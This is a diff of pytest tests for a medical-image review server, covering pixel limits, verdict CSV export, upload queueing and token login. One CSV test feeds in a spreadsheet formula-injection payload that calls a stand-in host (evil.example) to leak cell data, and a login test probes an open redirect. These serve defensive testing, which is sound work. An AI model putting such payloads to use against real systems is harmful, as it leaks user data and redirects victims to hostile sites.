@@ -189,6 +189,20 @@ def test_an_original_that_moved_is_a_clear_404_without_its_path(tmp_path):
     assert "file not found" in client.get("/api/tiles/0/moved/0/0_0.jpg").json()["detail"]
 
 
+def test_tiles_and_thumbnails_decode_within_run_max_pixels(tmp_path):
+    run = tmp_path / "run"
+    run.mkdir()
+    source = write_png(tmp_path / "scan.png", 3, 0, shape=(200, 150))
+    write_result(run, ImageResult("scan", str(source), 150, 200, 0.1, 0.5, "not malignant"))
+    small = load_config(overrides=["run.max_pixels=20000", "pipeline.id_salt=test"])
+    client = TestClient(create_app([run], cfg=small), base_url=LOCAL)
+    for url in ("/api/tiles/0/scan/8/0_0.jpg", "/api/thumb/0/scan.jpg"):
+        r = client.get(url)
+        assert r.status_code == 404 and "max_pixels=20,000" in r.json()["detail"], (url, r.text)
+    roomy = load_config(overrides=["pipeline.id_salt=test"])
+    assert TestClient(create_app([run], cfg=roomy), base_url=LOCAL).get("/api/thumb/0/scan.jpg").status_code == 200
+
+
 def test_results_with_ids_unfit_for_urls_and_file_names_are_not_listed(tmp_path):
     """A run folder may hold JSON files infer did not write: an id with a path in it, a hidden name or spaces
     is not listed (ids end up in URLs and in thumbnail file names), and so cannot be asked for; every id infer
@@ -271,6 +285,32 @@ def test_verdicts_round_trip_two_tabs_and_csv(standin):
     assert worklist_row["reviewed"]
 
 
+def test_verdict_csv_neutralises_formulas_but_not_our_numbers(tmp_path):
+    """Text a reader typed that a spreadsheet would run as a formula gets a leading ' in verdicts.csv (rows end in
+    CRLF); numbers we write (a negative box coordinate) stay numbers; the JSON API keeps the text as typed."""
+    run = tmp_path / "run"
+    write_result(run, ImageResult("-scan", "/nowhere/a.png", 300, 200, 0.9, 0.5, "malignant",
+                                  [LesionResult([-2.5, 3.0, 40.0, 50.0], 0.9, 0.7)]))
+    client = TestClient(create_app([run]), base_url=LOCAL)
+    evil = '=HYPERLINK("http://evil.example/?"&A2,"click")'
+    saves = [{"reader": evil, "boxes": {"0": {"lesion": "true lesion"}}, "image": {"comment": "=1+1"}},
+             {"reader": "@SUM(A1)", "image": {"comment": "\tcmd"}}, {"reader": "+x", "image": {"comment": "\r1"}},
+             {"reader": "Dr -", "image": {"comment": "-2 cm, fine"}}]
+    for body in saves:
+        assert client.post("/api/verdicts/0/-scan", json=body).status_code == 200
+    text = client.get("/runs/0/verdicts.csv").text
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert len(rows) == 5 and text.endswith("\r\n") and text.count("\r\n") == 1 + 5  # the header and each row
+    box = next(r for r in rows if r["box"] == "1")
+    assert box["reader"] == "'" + evil and box["image_id"] == "'-scan"
+    assert (box["x1"], box["y1"], box["malignancy"]) == ("-2.5", "3.0", "0.7")  # ours: numbers, not mangled
+    comments = {r["reader"]: r["comment"] for r in rows if r["box"] == ""}
+    assert comments == {"'" + evil: "'=1+1", "'@SUM(A1)": "'\tcmd", "'+x": "'\r1", "Dr -": "'-2 cm, fine"}
+    stored = {v["reader"]: v["comment"] for v in client.get("/api/verdicts/0/-scan").json()["verdicts"]
+              if v["box"] < 0}
+    assert stored[evil] == "=1+1" and stored["+x"] == "\r1"  # the store keeps what was typed
+
+
 @pytest.mark.parametrize("body,status", [
     ({"reader": "", "boxes": {"0": {"lesion": "unsure"}}}, 422),
     ({"reader": "x" * 81, "image": {"agreement": "agree"}}, 422),
@@ -296,6 +336,18 @@ def test_verdict_needs_json(standin):
     assert r.status_code == 415
     r = client.post(f"/api/verdicts/0/{KNOWN}", content=b"{not json", headers={"content-type": "application/json"})
     assert r.status_code == 422
+
+
+def test_an_oversized_verdict_body_is_refused_before_parsing(standin):
+    client = standin[0]
+    before = client.get(f"/api/verdicts/0/{KNOWN}").json()
+    body = json.dumps({"reader": "Dr Big", "image": {"comment": "x"}, "padding": "x" * 300_000}).encode()
+    r = client.post(f"/api/verdicts/0/{KNOWN}", content=body, headers={"content-type": "application/json"})
+    assert r.status_code == 413 and "256 KB" in r.json()["detail"]
+    chunked = client.post(f"/api/verdicts/0/{KNOWN}", content=iter([body[:100_000], body[100_000:]]),
+                          headers={"content-type": "application/json"})  # no Content-Length: counted as read
+    assert chunked.status_code == 413
+    assert client.get(f"/api/verdicts/0/{KNOWN}").json() == before
 
 
 def test_verdicts_fill_export_rois_review_label(served, tmp_path):
@@ -355,7 +407,7 @@ def test_upload_runs_the_pipeline_and_keeps_the_run(served, tmp_path):
     after = list(csv.DictReader(open(run / "predictions.csv")))
     assert [r["image_id"] for r in after] == [r["image_id"] for r in before] + [new_id]
     assert not [p for p in run.rglob("*") if "00820" in p.name]
-    assert not list(run.rglob(".*.partial*"))
+    assert not list(run.rglob(".*.partial*")) and not list(run.glob(".serve/.queue.*/*"))  # the queued file moved
 
 
 def test_upload_of_a_dicom_without_extension(served):
@@ -377,12 +429,19 @@ def test_bad_uploads_are_refused_with_a_message_and_change_nothing(served, monke
     png = cv2.imencode(".png", np.zeros((64, 48), np.uint8))[1].tobytes()
     cases = [("notes.png", b"this is a text file, not an image\n", "not a readable image"),
              ("report.pdf", b"%PDF-1.4", "not images this tool reads"),
-             ("empty.png", b"", "empty file"),
-             ("tiny.png", cv2.imencode(".png", np.zeros((8, 8), np.uint8))[1].tobytes(), "too small"),
-             ("fake.dcm", b"\0" * 128 + b"DICM" + b"\0" * 64, "refused")]
+             ("empty.png", b"", "empty file")]
     for name, content, message in cases:
         r = upload(client, name, content)
         assert r.status_code == 422 and message in r.json()["detail"], (name, r.text)
+    # what only decoding tells is found by the worker (it decodes one upload at a time): a failed job
+    for name, content, message in [
+            ("tiny.png", cv2.imencode(".png", np.zeros((8, 8), np.uint8))[1].tobytes(), "too small"),
+            ("fake.dcm", b"\0" * 128 + b"DICM" + b"\0" * 64, "refused"),
+            ("notes", b"a text file without extension is read as DICOM\n", "refused")]:
+        r = upload(client, name, content)
+        assert r.status_code == 200, (name, r.text)
+        job = wait_job(client, r.json()["id"])
+        assert job["status"] == "failed" and message in job["error"] and "queue" not in job["error"], job
     uploads = client.app.state.uploads
     monkeypatch.setattr(uploads, "max_pixels", 1000)
     r = upload(client, "big.png", png)
@@ -400,6 +459,72 @@ def test_bad_uploads_are_refused_with_a_message_and_change_nothing(served, monke
     r = upload(client, "ok.png", png, run=5)
     assert r.status_code == 404
     assert listing() == before
+
+
+@pytest.fixture
+def held_worker(tmp_path, monkeypatch):
+    """(client, uploads, gate): an app whose upload worker waits for `gate.set()` before each job, so a queue
+    fills deterministically. Its models are a stand-in: a job decodes its upload, then fails at the models."""
+    client = TestClient(create_app([tmp_path / "run"], object(), load_config(), 0.5), base_url=LOCAL)
+    uploads, gate = client.app.state.uploads, threading.Event()
+    run_job = uploads._run
+    monkeypatch.setattr(uploads, "_run", lambda job: (gate.wait(60), run_job(job)))
+    yield client, uploads, gate
+    gate.set()
+    uploads.close()
+
+
+def test_a_full_upload_queue_answers_busy_and_queued_uploads_are_files_not_pixels(held_worker, tmp_path):
+    import tracemalloc
+
+    from pipeline.serve.jobs import MAX_PENDING_UPLOADS
+
+    client, uploads, gate = held_worker
+    png = cv2.imencode(".png", np.full((2000, 2000), 128, np.uint8))[1].tobytes()  # 16 MB as float32 pixels
+    tracemalloc.start()
+    try:
+        held = tracemalloc.get_traced_memory()[0]
+        queued = [upload(client, "scan.png", png) for _ in range(MAX_PENDING_UPLOADS)]
+        held = tracemalloc.get_traced_memory()[0] - held
+    finally:
+        tracemalloc.stop()
+    assert [r.status_code for r in queued] == [200] * MAX_PENDING_UPLOADS
+    assert held < 8e6, f"{held / 1e6:.0f} MB held by {MAX_PENDING_UPLOADS} queued uploads"  # decoded: 128 MB
+    jobs = [uploads.get(r.json()["id"]) for r in queued]
+    for job in jobs:  # a queued job is its file on disk, in a folder only the server's user can read
+        assert job.status == "queued" and job.file.read_bytes() == png
+        assert not any(isinstance(v, np.ndarray) or hasattr(v, "pixels") for v in vars(job).values())
+        assert job.file.parent.stat().st_mode & 0o777 == 0o700
+    busy = upload(client, "scan.png", png)
+    assert busy.status_code == 503 and busy.headers["retry-after"] == "30", busy.headers
+    assert "busy" in busy.json()["detail"] and "retry" in busy.json()["detail"]
+    assert len(list(jobs[0].file.parent.iterdir())) == MAX_PENDING_UPLOADS  # the refused one left nothing
+    gate.set()
+    for job in jobs:  # decoded by the worker, then the stand-in models fail
+        done = wait_job(client, job.id)
+        assert done["status"] == "failed" and "object" in done["error"] and job.file is None, done
+    left = [p for p in (tmp_path / "run" / ".serve").rglob("*") if p.is_file() and "verdicts" not in p.name]
+    assert not left  # neither in the queue nor in the run's uploads: no result names them
+    assert upload(client, "scan.png", png).status_code == 200  # room again
+
+
+def test_finished_upload_jobs_are_forgotten(held_worker):
+    from pipeline.serve.jobs import FINISHED_JOB_SECONDS, MAX_FINISHED_JOBS, Job
+
+    client, uploads, gate = held_worker
+    now = time.time()
+    old = [Job(f"old{i}", 0, "done", finished=now - FINISHED_JOB_SECONDS - 60) for i in range(5)]
+    recent = [Job(f"recent{i}", 0, "failed", finished=now - i) for i in range(150)]
+    waiting = Job("waiting", 0)  # queued (a stand-in: no worker will take it)
+    uploads.jobs.update({j.id: j for j in [*old, *recent, waiting]})
+    gate.set()
+    png = cv2.imencode(".png", np.zeros((64, 48), np.uint8))[1].tobytes()
+    new = upload(client, "scan.png", png).json()["id"]
+    assert wait_job(client, new)["status"] == "failed"
+    finished = [j for j in uploads.jobs.values() if j.finished]
+    assert len(finished) == MAX_FINISHED_JOBS and all(now - j.finished < FINISHED_JOB_SECONDS for j in finished)
+    assert {new, "waiting", "recent0"} <= set(uploads.jobs) and "recent99" not in uploads.jobs
+    assert client.get("/api/jobs/old0").status_code == 404
 
 
 def test_uploads_are_viewable_when_results_hold_no_paths(served, tmp_path):
@@ -449,6 +574,32 @@ def test_token_is_required_beyond_localhost(standin):
     assert client.get("/").status_code == 200  # the cookie now carries it
     client.cookies.clear()
     assert client.get("/").status_code == 401
+
+
+def test_a_base64_token_logs_in_through_the_printed_url(standin):
+    """`openssl rand -base64` tokens hold + / =: the printed address percent-encodes them, and the login
+    redirect is relative (a TLS proxy in front knows the scheme and host the browser used)."""
+    from urllib.parse import urlsplit
+
+    from pipeline.serve import login_url
+
+    _, run, *_ = standin
+    token = "Qk3+x/9aZbT1w+Lm0pR7sV=="
+    url = urlsplit(login_url("0.0.0.0", 8000, token))
+    assert (url.hostname, url.port, url.path) == ("127.0.0.1", 8000, "/")
+    client = TestClient(create_app([run], token=token), base_url="http://10.1.2.3:8000")
+    assert client.get(f"/?token={token}").status_code == 401  # the raw token: '+' arrives as a space
+    r = client.get(f"/?{url.query}", follow_redirects=False)
+    assert r.status_code == 303 and r.headers["location"] == "/", r.headers
+    assert "secure" not in r.headers["set-cookie"].lower()  # plain HTTP: a Secure cookie would never come back
+    assert client.get("/").status_code == 200  # the cookie carries the token
+    behind_tls = TestClient(create_app([run], token=token), base_url="https://10.1.2.3")  # as a proxy tells it
+    assert "secure" in behind_tls.get(f"/?{url.query}", follow_redirects=False).headers["set-cookie"].lower()
+    r = client.get(f"/view/0/{KNOWN}?{url.query}&x=1", follow_redirects=False)
+    assert r.headers["location"] == f"/view/0/{KNOWN}?x=1"
+    r = client.get(f"http://10.1.2.3:8000//evil.example/?{url.query}", follow_redirects=False)
+    assert r.headers["location"] == "/evil.example/"  # never a protocol-relative address to another site
+    assert login_url("::1", 8000, None) == "http://[::1]:8000/"
 
 
 def test_access_log_never_shows_the_token():
